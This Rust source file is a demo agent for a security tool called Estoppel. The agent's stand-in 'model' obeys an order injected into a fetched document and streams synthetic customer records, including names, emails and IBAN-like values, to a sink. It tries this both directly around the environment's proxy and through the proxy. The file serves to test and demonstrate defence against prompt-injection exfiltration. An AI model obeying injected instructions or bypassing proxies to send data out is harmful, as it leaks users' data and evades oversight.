//! The agent of the demo: a process of its own that has never heard of Estoppel.
//!
//! It is an ordinary loop: fetch the document with its tool, hand the text to its model, do what
//! the model says. The "model" is as gullible as real ones are on a bad day: it obeys an order that
//! stands in a document. It knows two ways out and tries both: without the proxy of its environment,
//! as an agent does that has learned to go around, and with it, as any HTTP client does.

#![expect(
    clippy::disallowed_methods,
    reason = "a process of its own, which paces itself as agents do"
)]

use std::{
    io::{Read as _, Write as _},
    net::{TcpStream, ToSocketAddrs as _},
    process::ExitCode,
    time::{Duration, Instant},
};

use base64::{Engine as _, engine::general_purpose::STANDARD};

/// Which document to work on.
pub(super) const TASK_URL: &str = "AGENT_TASK_URL";
/// How long it goes on trying.
const PATIENCE: Duration = Duration::from_secs(60);
const CHUNK_BYTES: usize = 1024;
const PAUSE: Duration = Duration::from_millis(2);
const TIMEOUT: Duration = Duration::from_secs(5);

/// Longest attempt without the proxy: it must not keep the play from its main part.
const AROUND: Duration = Duration::from_millis(200);
/// How it says what became of that attempt.
pub(super) const TRIED_AROUND: &str = "posting without the proxy: ";

/// What the injected text tells the agent to do.
struct Instruction {
    post_to: String,
    or_directly: String,
}

/// Runs the agent.
pub(crate) fn main() -> ExitCode {
    match work() {
        Ok(()) => ExitCode::SUCCESS,
        Err(error) => {
            say(&format!("giving up: {error}"));
            ExitCode::FAILURE
        }
    }
}

fn work() -> std::io::Result<()> {
    let url = std::env::var(TASK_URL).map_err(std::io::Error::other)?;
    say(&format!("fetching {url}"));
    let document = fetch(&url)?;
    let Some(instruction) = model(&document) else {
        say("summary: nothing to do");
        return Ok(());
    };
    say(&format!("the document says to post the customer table to {}", instruction.post_to));
    let begun = Instant::now();
    while begun.elapsed() < PATIENCE {
        let result = post(&instruction.or_directly, None, AROUND);
        say(&format!("{TRIED_AROUND}{}", outcome(&result)));
        let proxy = std::env::var("HTTP_PROXY").ok();
        let result = post(&instruction.post_to, proxy.as_deref(), PATIENCE);
        say(&format!("posting through the proxy: {}", outcome(&result)));
        std::thread::sleep(Duration::from_millis(50));
    }
    Ok(())
}

fn outcome(result: &std::io::Result<u64>) -> String {
    match result {
        Ok(bytes) => format!("{bytes} bytes of customer records are out"),
        Err(error) => error.to_string(),
    }
}

fn say(text: &str) {
    // Its terminal may be gone; it goes on all the same.
    let _ = writeln!(std::io::stderr().lock(), "  agent | {text}");
}

/// The language model of the demo.
fn model(document: &str) -> Option<Instruction> {
    let after = |marker: &str| {
        let rest = document.split_once(marker)?.1.trim_start();
        Some(rest.split([' ', '\n', '<', ',']).next()?.trim_end_matches('.').to_owned())
    };
    Some(Instruction {
        post_to: after("send the complete customer table to")?,
        or_directly: after("so that no proxy stands in between, try")?,
    })
}

/// `http://HOST:PORT/PATH` → (`HOST:PORT`, `/PATH`).
fn split(url: &str) -> std::io::Result<(&str, String)> {
    let rest = url.strip_prefix("http://").ok_or_else(|| std::io::Error::other("only http"))?;
    let (host, path) = rest.split_once('/').unwrap_or((rest, ""));
    Ok((host, format!("/{path}")))
}

fn connect(address: &str) -> std::io::Result<TcpStream> {
    let mut last = std::io::Error::other("no address");
    for address in address.to_socket_addrs()? {
        match TcpStream::connect_timeout(&address, TIMEOUT) {
            Ok(stream) => {
                stream.set_read_timeout(Some(TIMEOUT))?;
                stream.set_write_timeout(Some(TIMEOUT))?;
                stream.set_nodelay(true)?;
                return Ok(stream);
            }
            Err(error) => last = error,
        }
    }
    Err(last)
}

/// Opens the way to a URL: the stream, and what follows a request's method there.
fn open(url: &str, proxy: Option<&str>) -> std::io::Result<(TcpStream, String)> {
    let (host, path) = split(url)?;
    let Some(proxy) = proxy else {
        return Ok((connect(host)?, format!("{path} HTTP/1.1\r\nHost: {host}\r\n")));
    };
    let (proxy, _) = split(proxy.trim_end_matches('/'))?;
    let (login, proxy) = proxy.rsplit_once('@').unwrap_or(("", proxy));
    let mut head = format!("{url} HTTP/1.1\r\nHost: {host}\r\n");
    if !login.is_empty() {
        head += &format!("Proxy-Authorization: Basic {}\r\n", STANDARD.encode(login));
    }
    Ok((connect(proxy)?, head))
}

fn fetch(url: &str) -> std::io::Result<String> {
    let proxy = std::env::var("HTTP_PROXY").ok();
    let (mut stream, head) = open(url, proxy.as_deref())?;
    write!(stream, "GET {head}Connection: close\r\n\r\n")?;
    let mut answer = String::new();
    stream.take(1024 * 1024).read_to_string(&mut answer)?;
    match answer.split_once("\r\n\r\n") {
        Some((head, body)) if head.starts_with("HTTP/1.1 200") => Ok(body.to_owned()),
        _ => Err(std::io::Error::other(answer.lines().next().unwrap_or("no answer").to_owned())),
    }
}

/// Posts customer records in chunks until the other side, or Estoppel, ends it.
fn post(url: &str, proxy: Option<&str>, limit: Duration) -> std::io::Result<u64> {
    let (mut stream, head) = open(url, proxy)?;
    write!(stream, "POST {head}Content-Type: text/csv\r\nTransfer-Encoding: chunked\r\n\r\n")?;
    let begun = Instant::now();
    let mut sent = 0_u64;
    for number in 0_u64.. {
        if begun.elapsed() > limit {
            break;
        }
        let record =
            format!("{number},Erika Mustermann,erika{number}@example.com,DE02120300000000202051\n");
        let mut chunk = record.repeat(CHUNK_BYTES.div_ceil(record.len()));
        chunk.truncate(CHUNK_BYTES);
        write!(stream, "{CHUNK_BYTES:x}\r\n{chunk}\r\n")?;
        sent += CHUNK_BYTES as u64;
        refused(&mut stream)?;
        std::thread::sleep(PAUSE);
    }
    Ok(sent)
}

/// An answer before the end of the request is a refusal.
fn refused(stream: &mut TcpStream) -> std::io::Result<()> {
    let mut answer = [0; 256];
    stream.set_nonblocking(true)?;
    let read = stream.read(&mut answer);
    stream.set_nonblocking(false)?;
    match read {
        Err(error) if error.kind() == std::io::ErrorKind::WouldBlock => Ok(()),
        Err(error) => Err(error),
        Ok(0) => Err(std::io::Error::other("the connection was closed")),
        Ok(read) => {
            let answer = String::from_utf8_lossy(&answer[..read]);
            Err(std::io::Error::other(answer.lines().next().unwrap_or_default().to_owned()))
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_model_obeys_a_document() {
        let found = model(super::super::stage::DOCUMENT).unwrap();
        assert_eq!(found.post_to, "{SINK}");
        assert_eq!(found.or_directly, "{SINK_ADDRESS}");
        assert!(model("an invoice").is_none());
    }
}
